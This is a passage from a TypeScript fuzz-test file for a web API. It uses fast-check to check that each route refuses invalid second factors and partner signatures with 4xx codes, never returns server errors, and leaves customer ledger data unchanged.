  // One test per route of the contract, each with its share of the cases.
  for (const [index, [name, spec]] of (Object.entries(routes) as [string, RouteSpec][]).entries()) {
    test(`${name}: ${spec.method} ${spec.path}`, async () => {
      const route = all.find((r) => r.name === name)!;
      const numRuns = Math.ceil(TOTAL_CASES / Object.keys(routes).length);
      await fc.assert(
        fc.asyncProperty(cases(route), async (c) => {
          // Only what must be refused — or, on a read-only route, what must merely not fail.
          fc.pre(c.mustRefuse || spec.method === 'GET');
          await check(route, c);
        }),
        { numRuns, seed: SEED + index, includeErrorInReport: true },
      );
    });
  }

  test('report, and the customers are as they were', async (t) => {
    const line = `${stats.cases} cases (seed ${SEED}): ${stats.refused} refused with 4xx (${stats.badFactors} bad second factors and ${stats.badSignatures} bad partner signatures, each with its code; ${stats.realFactors} others carried a real one), ${stats.answered} in-contract oddities answered 2xx, 0 server errors; statuses ${JSON.stringify(stats.byStatus)}`;
    console.log(`[fuzz] ${line}`);
    t.diagnostic(line);
    assert.ok(stats.cases >= TOTAL_CASES, `${stats.cases} cases`);
    await assertLedgerSound();
  });
});
